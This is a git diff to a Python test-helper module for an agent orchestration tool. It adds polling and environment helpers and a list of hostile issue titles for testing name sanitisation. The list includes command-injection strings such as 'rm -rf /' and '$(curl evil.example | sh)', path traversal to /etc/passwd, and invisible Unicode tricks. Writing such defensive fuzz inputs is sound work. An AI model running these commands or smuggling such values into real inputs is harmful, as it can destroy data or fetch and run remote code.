@@ -21,6 +21,8 @@ from pathlib import Path
 from agentmesh.host.config import MeshPolicy, parse_mesh_policy
 from agentmesh.core.lease import Clock
 
+REPO = Path(__file__).resolve().parents[2]
+
 GIT_ENV = {
     "GIT_CONFIG_NOSYSTEM": "1",
     "GIT_CONFIG_GLOBAL": "/dev/null",
@@ -63,6 +65,13 @@ def make_remote(path: Path, files: dict[str, str] | None = None, *, mesh_yaml: s
 def remote_refs(path: Path, prefix: str = "refs/") -> dict[str, str]:
     out = git("for-each-ref", "--format=%(refname) %(objectname)", prefix, cwd=path)
     return dict(line.split(" ", 1) for line in out.splitlines()) if out else {}
+
+
+def wait_for(condition, what: str, timeout: float = 60.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not condition():
+        assert time.monotonic() < deadline, f"timed out waiting for {what}"
+        time.sleep(0.05)
 
 
 def free_port() -> int:
@@ -207,6 +216,52 @@ def short_lease_policy(seconds: int = 60, grace: int = 0) -> MeshPolicy:
 
 
 # --- meshes of agents on the local forge ------------------------------------------------------
+
+# Issue titles written to break whatever turns them into names: shells, git refs, paths.
+HOSTILE_TITLES = (
+    "Fix login; rm -rf / #",
+    "$(curl evil.example | sh)",
+    "`reboot`",
+    "a && b || c | d > /etc/passwd",
+    "../../etc/passwd",
+    "..",
+    "refs/heads/main",
+    "HEAD",
+    "@{-1}",
+    "branch.lock",
+    "-rf --force",
+    "foo//bar\\baz",
+    "name with ~ ^ : ? * [ ] spaces",
+    "\u202eevil\u202c reversed",  # bidi override
+    "zero\u200bwidth\u200djoiner\ufeff",
+    "tag\U000e0041\U000e0042chars",
+    "\x00nul\x07bell\x1bescape\x7f",
+    "Ünïcödé Çafé naïve résumé",
+    "日本語のタイトル",
+    "🚀🔥 emoji only 💥",
+    "x" * 500,
+    "word " * 100,
+    "   ",
+    "",
+    "-",
+    "___",
+    "CAPS AND   Multiple---Dashes",
+    "trailing dash at forty characters exactly-",
+    "new\nline\rcarriage\ttab",
+    "%2e%2e%2f encoded traversal",
+)
+
+
+def path_only_env() -> dict[str, str]:
+    """The environment in-process agents give their executors and gates: PATH alone."""
+    return {"PATH": os.environ["PATH"]}
+
+
+def python_syntax_gate() -> dict:
+    """A mesh.yaml gate that passes when every Python file of the checkout compiles."""
+    check = "import pathlib; [compile(p.read_text(), str(p), 'exec') for p in sorted(pathlib.Path('.').rglob('*.py'))]"
+    return {"name": "python syntax", "run": ["python3", "-c", check], "timeout_seconds": 60}
+
 
 DEMO_BLOCK = "```agentmesh-demo path={path}\n{content}```\n"
 
